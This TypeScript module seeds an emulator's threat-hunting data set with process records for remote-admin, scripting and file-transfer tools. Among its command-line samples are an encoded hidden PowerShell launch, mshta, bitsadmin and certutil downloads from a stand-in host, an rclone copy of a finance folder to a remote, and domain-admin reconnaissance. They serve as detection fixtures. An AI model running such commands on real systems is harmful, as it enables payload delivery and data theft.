/**
 * The hunting data set: remote admin tools, scripting hosts and file transfer tools run by
 * several users on several hosts over the last three weeks, timed relative to the emulator's
 * clock (a server with live sensors), so that `start:-1440m`, `cbapi survey --days 7` and
 * `min_last_update(yesterday)` find rows. The seed decides hosts, users and offsets.
 *
 * @module
 */
import { mixSeed, Rng } from "../_rand.ts";
import { md5For } from "./_binaries.ts";
import { makeGuid, solrTime } from "./_guid.ts";
import type { ProcSpec } from "./_processes.ts";

/** One tool of the data set. */
interface Tool {
  name: string;
  path: string;
  cmdlines: string[];
  count: number;
  /** Sensors it runs on (cmd.exe stays on the sensors that already ran it). */
  sensors: number[];
  /** Remote end of a network connection, when the tool makes one. */
  netconn?: { domain: string; ip: string; port: number };
  /** The image's MD5, when not the catalogue's. */
  md5?: string;
  /** Long-running (two segments, started at least a day ago). */
  service?: boolean;
}

const PF86 = "c:\\program files (x86)\\";
const SYS32 = "c:\\windows\\system32\\";
const ALL = [1, 2, 3, 4, 5];

/** The tools, their command lines and how often each ran. */
const TOOLS: Tool[] = [
  {
    name: "psexec.exe",
    path: "c:\\tools\\sysinternals\\psexec.exe",
    cmdlines: [
      "psexec.exe \\\\WIN-2K8R2-DC -s cmd.exe",
      "psexec.exe -accepteula \\\\HOSTNAME ipconfig /all",
    ],
    count: 4,
    sensors: ALL,
  },
  {
    name: "psexesvc.exe",
    path: "c:\\windows\\psexesvc.exe",
    cmdlines: ["C:\\Windows\\PSEXESVC.exe"],
    count: 3,
    sensors: [2, 4],
  },
  {
    name: "whoami.exe",
    path: SYS32 + "whoami.exe",
    cmdlines: ["whoami.exe /all", 'whoami.exe /fo csv /groups "domain, admins"'],
    count: 4,
    sensors: [2, 4],
  },
  {
    name: "cmd.exe",
    path: SYS32 + "cmd.exe",
    cmdlines: ["cmd.exe /c ipconfig /all", 'cmd.exe /c net group "domain admins" /domain'],
    count: 4,
    // Not on WIN-IA9NQ1GN8OI, and a later Windows build's image: the documentation's cmd.exe
    // binary keeps its hosts and host counts.
    sensors: [1, 2],
    md5: md5For("cmd.exe 10.0.17763"),
  },
  {
    name: "anydesk.exe",
    path: PF86 + "anydesk\\anydesk.exe",
    cmdlines: ['"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --control'],
    count: 3,
    sensors: ALL,
    service: true,
  },
  {
    name: "teamviewer.exe",
    path: PF86 + "teamviewer\\teamviewer.exe",
    cmdlines: ['"C:\\Program Files (x86)\\TeamViewer\\TeamViewer.exe"'],
    count: 2,
    sensors: [1, 3],
  },
  {
    name: "teamviewer_service.exe",
    path: PF86 + "teamviewer\\teamviewer_service.exe",
    cmdlines: ['"C:\\Program Files (x86)\\TeamViewer\\TeamViewer_Service.exe"'],
    count: 2,
    sensors: [1, 3],
    service: true,
  },
  {
    name: "powershell.exe",
    path: SYS32 + "windowspowershell\\v1.0\\powershell.exe",
    cmdlines: [
      "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
      "powershell.exe -File C:\\scripts\\inventory.ps1",
      'powershell.exe -Command "Get-Process\nGet-Service"',
      'powershell.exe -Command "Get-Service, Get-Process"',
    ],
    count: 6,
    sensors: ALL,
  },
  {
    name: "wscript.exe",
    path: SYS32 + "wscript.exe",
    cmdlines: ['"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\jsmith\\Downloads\\invoice.js"'],
    count: 2,
    sensors: [1, 4],
  },
  {
    name: "cscript.exe",
    path: SYS32 + "cscript.exe",
    cmdlines: ["cscript.exe //nologo C:\\scripts\\logon.vbs"],
    count: 3,
    sensors: ALL,
  },
  {
    name: "mshta.exe",
    path: SYS32 + "mshta.exe",
    cmdlines: ["mshta.exe http://update.example.net/a.hta"],
    count: 1,
    sensors: [4],
  },
  {
    name: "rclone.exe",
    path: "c:\\users\\svc_backup\\rclone\\rclone.exe",
    cmdlines: ["rclone.exe copy D:\\Finance remote:archive --transfers 8"],
    count: 2,
    sensors: [2, 5],
  },
  {
    name: "winscp.exe",
    path: PF86 + "winscp\\winscp.exe",
    cmdlines: ['"C:\\Program Files (x86)\\WinSCP\\WinSCP.exe" sftp://backup@10.0.3.40/'],
    count: 2,
    sensors: [1, 3],
  },
  {
    name: "bitsadmin.exe",
    path: SYS32 + "bitsadmin.exe",
    cmdlines: [
      "bitsadmin.exe /transfer job1 /download /priority normal http://update.example.net/a.exe C:\\Users\\Public\\a.exe",
    ],
    count: 2,
    sensors: [3, 4],
  },
  {
    name: "certutil.exe",
    path: SYS32 + "certutil.exe",
    cmdlines: ["certutil.exe -urlcache -split -f http://update.example.net/b.txt b.txt"],
    count: 2,
    sensors: [1, 4],
  },
  {
    name: "pscp.exe",
    path: "c:\\tools\\putty\\pscp.exe",
    cmdlines: ["pscp.exe report.zip backup@10.0.3.40:/srv/incoming/"],
    count: 1,
    sensors: [3],
  },
];

/** Users of the data set (the same account in two spellings, as sensors report it). */
export const SURVEY_USERS = [
  "CORP\\JSmith",
  "corp\\jsmith",
  "CORP\\akumar",
  "CORP\\svc_backup",
  "CORP\\mlopez",
];

const MINUTE = 60_000;
/** How far back the data set reaches: 21 days. */
const SPAN_MIN = 21 * 1440;

/**
 * The hunting processes, timed back from `now`. Every short-lived tool's first run is within
 * the last day (so `start:-1440m` finds it), the others spread over three weeks; long-running
 * ones started more than a day ago and were last updated within the last ten hours.
 *
 * @param seed The emulator's seed.
 * @param now The emulator's clock at start (ms since the epoch).
 * @returns The process specs.
 */
export function surveySpecs(seed: number, now: number): ProcSpec[] {
  const rng = new Rng(mixSeed("survey", seed));
  const specs: ProcSpec[] = [];
  const used = new Set<string>();
  for (const tool of TOOLS) {
    for (let i = 0; i < tool.count; i++) {
      const sensor = tool.sensors[rng.int(0, tool.sensors.length - 1)]!;
      const user = SURVEY_USERS[rng.int(0, SURVEY_USERS.length - 1)]!;
      const minutes = tool.service
        ? (i === 0 ? rng.int(1500, 2800) : rng.int(2880, SPAN_MIN))
        : (i === 0 ? rng.int(30, 1380) : rng.int(1500, SPAN_MIN));
      const wholeSecond = rng.next() < 0.3;
      let startMs = now - minutes * MINUTE - (wholeSecond ? 0 : rng.int(1, 59_999));
      if (wholeSecond) startMs -= startMs % 1000;
      let pid = 4 * rng.int(300, 15000);
      while (used.has(`${sensor}:${pid}`)) pid += 4;
      used.add(`${sensor}:${pid}`);
      const start = solrTime(startMs);
      const spec: ProcSpec = {
        sensor,
        pid,
        start,
        name: tool.name,
        path: tool.path,
        cmdline: tool.cmdlines[i % tool.cmdlines.length]!,
        user,
        parent: makeGuid(sensor, 4 * rng.int(100, 299), solrTime(startMs - 60_000)),
        terminated: !tool.service,
        minimalEvents: true,
      };
      if (tool.netconn) spec.netconns = [tool.netconn];
      if (tool.md5) spec.md5 = tool.md5;
      if (tool.service) {
        // Two 6.x segments (ids are times); the later one ends at most 20 minutes ago.
        const first = startMs + rng.int(60, 600) * MINUTE;
        const second = now - rng.int(20, 600) * MINUTE;
        spec.segments = [
          { id: first, lastUpdate: solrTime(first) },
          { id: second, lastUpdate: solrTime(second) },
        ];
      }
      specs.push(spec);
    }
  }
  return specs;
}
